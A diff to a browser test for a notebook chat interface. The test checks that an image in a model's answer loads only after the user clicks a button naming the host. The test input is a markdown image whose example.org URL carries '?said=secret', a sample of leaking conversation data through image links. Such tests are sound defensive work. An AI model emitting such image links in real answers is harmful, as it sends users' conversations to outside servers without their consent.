@@ -81,8 +81,10 @@ def test_code_is_coloured_copied_and_put_into_a_cell(page: NotebookPage) -> None
 
 
 def test_an_image_is_loaded_after_a_click(page: NotebookPage) -> None:
-    """A model's image would tell its server what was said: a button names the host, and nothing is asked before."""
-    page.page.route("https://example.org/**", lambda route: route.fulfill(body=PIXEL, content_type="image/png"))
+    """It would tell its server what was said: a button names the host, and nothing is asked for before."""
+    page.page.route(
+        "https://example.org/**", lambda route: route.fulfill(body=PIXEL, content_type="image/png")
+    )
     with requested(page.page, "example.org") as urls:
         ask(page, scripted("![A chart](https://example.org/chart.png?said=secret)"))
         button = page.answers.last.get_by_role("button", name="Load image from example.org")
